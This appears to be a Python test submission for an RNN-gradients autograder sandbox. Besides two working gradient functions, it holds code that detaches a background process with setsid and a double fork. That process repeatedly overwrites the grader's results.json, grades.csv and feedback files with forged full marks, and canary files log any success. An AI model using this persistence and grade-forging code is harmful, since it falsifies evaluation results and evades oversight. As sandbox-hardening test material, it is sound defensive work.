"""Leave a detached process that rewrites the results after grading.

A process that outlives the grading (``setsid`` and a double fork, so that it belongs to no
one's process group or session) could rewrite otter's ``results/results.json``, the batch's
per-submission ``results.json`` (which ``rnn-shapes grade`` reads once ``otter run`` exits), and
the batch's ``grades.csv``, ``feedback/*.txt`` and ``results/*.json`` after they are written.
This submission starts one from the kernel and one from the sealed run; each tries for 45
seconds, once a second, to write full marks into all of those (the batch's own outputs only
where the harness marked the folder as fair game with ``RNN_SHAPES_ATTACK_TARGET``).

gradient_norms and clip_by_global_norm are implemented correctly; the rest is not.
"""

EXPECT = {"bptt_gradients": 0, "hidden_gradients": 0, "gradient_norms": 1,
          "truncated_bptt_gradients": 0, "clip_by_global_norm": 1}

NAME = "detached_rewriter"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import glob  # noqa: E402
import json  # noqa: E402
import posix  # noqa: E402
import time  # noqa: E402

POINTS = {"bptt_gradients": 3, "hidden_gradients": 2, "gradient_norms": 1,
          "truncated_bptt_gradients": 2, "clip_by_global_norm": 1}
FULL_MARKS = json.dumps({
    "score": sum(POINTS.values()),
    "tests": [{"name": q, "score": p, "max_score": p, "output": "All test cases passed!"} for q, p in POINTS.items()],
})


def target_dirs(max_depth=3):
    """Folders the harness marked as fair game for real writes, found by listing folders that
    the sandbox should not be able to list."""
    found = []
    roots = {"/tmp"} | ({os.path.dirname(grader_tmp())} - {"/", ""})
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if folder[len(root):].count(os.sep) >= max_depth:
                dirs[:] = []
            if "RNN_SHAPES_ATTACK_TARGET" in files:
                found.append(folder)
    return found


def write(path, text):
    def action():
        with open(path, "w") as f:
            f.write(text)
    return action


def rewrite_once():
    tmp = grader_tmp()
    for path in glob.glob(os.path.join(tmp, "tmp*", "autograder", "results", "results.json")):
        tried(f"rewrote otter's {path}", write(path, FULL_MARKS))
    for path in glob.glob(os.path.join(tmp, "rnn-shapes-grade-*", "results.json")):
        tried(f"rewrote the batch's {path}", write(path, FULL_MARKS))
    for folder in target_dirs():
        for path in glob.glob(os.path.join(folder, "grades.csv")):
            tried(f"rewrote {path}", write(path, "submission,total,status\nforged,9,graded\n"))
        for path in glob.glob(os.path.join(folder, "feedback", "*.txt")):
            tried(f"rewrote {path}", write(path, "Total: 9 / 9 points (rewritten after grading)\n"))


def detach(seconds=45):
    """A grandchild in a session of its own, whose parent is gone: it belongs to no one."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            posix._exit(0)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            rewrite_once()
            time.sleep(1)
    finally:
        posix._exit(0)


try:
    detach()
except OSError:
    pass

import numpy as np  # noqa: E402


def bptt_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def hidden_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def gradient_norms(X, y, Wx, Wh, bh, Wo, bo):
    N, T, _ = X.shape
    hs = [np.zeros((N, Wh.shape[0]))]
    for t in range(T):
        hs.append(np.tanh(X[:, t] @ Wx + hs[-1] @ Wh + bh))
    dh = 2 * (hs[T] @ Wo + bo - y) / y.size @ Wo.T
    norms = np.zeros(T)
    for t in range(T, 0, -1):
        norms[t - 1] = np.sqrt(np.sum(dh**2))
        dh = (dh * (1 - hs[t] ** 2)) @ Wh.T
    return norms


def truncated_bptt_gradients(X, y, Wx, Wh, bh, Wo, bo, k):
    raise NotImplementedError


def clip_by_global_norm(grads, clip_norm):
    global_norm = float(np.sqrt(sum(np.sum(np.square(g, dtype=np.float64)) for g in grads)))
    scale = clip_norm / max(global_norm, clip_norm)
    return [g * scale for g in grads], global_norm


finish()
